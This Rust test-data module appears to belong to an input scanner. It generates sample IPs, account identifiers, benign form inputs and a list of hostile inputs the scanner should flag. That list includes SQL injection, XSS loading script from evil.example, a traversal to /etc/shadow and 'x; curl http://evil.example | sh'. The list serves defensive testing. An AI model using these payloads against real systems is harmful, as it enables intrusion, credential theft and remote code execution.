// SPDX-FileCopyrightText: 2026 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Test data generators for attack simulation.

use std::net::{IpAddr, Ipv4Addr};

/// Generate a pool of origin IP strings.
pub fn generate_origins(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| {
            // Use 10.x.x.x private range
            let a = ((i >> 16) & 0xFF) as u8;
            let b = ((i >> 8) & 0xFF) as u8;
            let c = (i & 0xFF) as u8;
            IpAddr::V4(Ipv4Addr::new(10, a, b, c)).to_string()
        })
        .collect()
}

/// Generate a pool of account identifiers.
pub fn generate_identifiers(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| format!("user{}@example.com", i))
        .collect()
}

/// Inputs the scanner is expected to flag.
pub fn generate_hostile_inputs() -> Vec<&'static str> {
    vec![
        "' OR 1=1 --",
        "admin'/*",
        "1 UNION SELECT username, password FROM users",
        "<script src=//evil.example/x.js></script>",
        "<svg onload=alert(1)>",
        "javascript:fetch('//evil.example')",
        "../../../../etc/shadow",
        "%2e%2e%2fconfig",
        "`id`",
        "x; curl http://evil.example | sh",
    ]
}

/// Ordinary form inputs that should pass.
pub fn generate_benign_inputs() -> Vec<&'static str> {
    vec![
        "Senior Software Engineer",
        "BSc (Hons) Computer Science, 2:1",
        "I'm interested in data analysis and visualisation.",
        "Manchester, UK",
        "https://portfolio.example.com/projects",
        "Available from 01/09/2026",
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_generate_origins() {
        let origins = generate_origins(256);
        assert_eq!(origins.len(), 256);
        // All should be unique
        let unique: std::collections::HashSet<_> = origins.iter().collect();
        assert_eq!(unique.len(), 256);
    }

    #[test]
    fn test_generate_identifiers() {
        let ids = generate_identifiers(10);
        assert_eq!(ids[3], "user3@example.com");
    }
}
